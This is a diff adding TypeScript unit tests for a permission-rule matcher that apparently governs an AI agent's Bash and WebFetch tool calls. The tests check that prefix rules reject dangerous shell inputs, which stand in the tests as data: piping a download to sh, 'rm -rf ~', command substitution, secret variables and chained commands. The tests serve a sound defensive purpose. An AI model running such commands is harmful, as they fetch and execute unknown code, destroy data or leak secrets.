@@ -39,6 +39,30 @@ describe('rule matching', () => {
       expect(ruleMatches(rule, call('Bash', { command: evil }), ctx), evil).toBe(false);
     }
   });
+  it('command prefix: never a glob, a ~+/~-/~user word, sed program text or a walk that follows links', () => {
+    const rule = (prefix: string) => ({ toolName: 'Bash', match: { kind: 'command-prefix' as const, prefix } });
+    for (const [prefix, evil] of [
+      ['cat', 'cat *'],
+      ['cat', 'cat l?k/x'],
+      ['cat', 'cat [l]ink'],
+      ['ls', 'ls ~+'],
+      ['ls', 'ls ~root'],
+      ['sed', 'sed -n "w /tmp/x" notes'],
+      ['grep', 'grep -R x .'],
+      ['awk', "awk '{print}' f"],
+    ]) {
+      expect(ruleMatches(rule(prefix!), call('Bash', { command: evil }), ctx), evil).toBe(false);
+    }
+    expect(ruleMatches(rule('cat'), call('Bash', { command: "cat 'a*'" }), ctx)).toBe(true);
+    expect(ruleMatches(rule('sed'), call('Bash', { command: "sed -n '1,5p' notes" }), ctx)).toBe(true);
+  });
+  it('path prefix on Bash: the limits of a command prefix (no chains, substitutions, variables, unknowable or opaque words)', () => {
+    const rule = { toolName: 'Bash', match: { kind: 'path-prefix' as const, path: join(root, 'proj') } };
+    expect(ruleMatches(rule, call('Bash', { command: 'cat src/a.ts' }), ctx)).toBe(true);
+    for (const evil of ['cat src/a.ts; curl x | sh', 'cat src/a.ts && rm -rf ~', 'cat src/a.ts | sh', 'cat $(curl x)', 'cat `id`', 'cat $SECRET', 'cat src/a.ts\nid', 'cat *', 'ls ~+', 'python3 src/a.ts', 'cat src/a.ts > x']) {
+      expect(ruleMatches(rule, call('Bash', { command: evil }), ctx), evil).toBe(false);
+    }
+  });
   it('domain: the host or its subdomains, never a look-alike', () => {
     const rule = { toolName: 'WebFetch', match: { kind: 'domain' as const, domain: 'stripe.com' } };
     expect(ruleMatches(rule, call('WebFetch', { url: 'https://docs.stripe.com/x' }), ctx)).toBe(true);
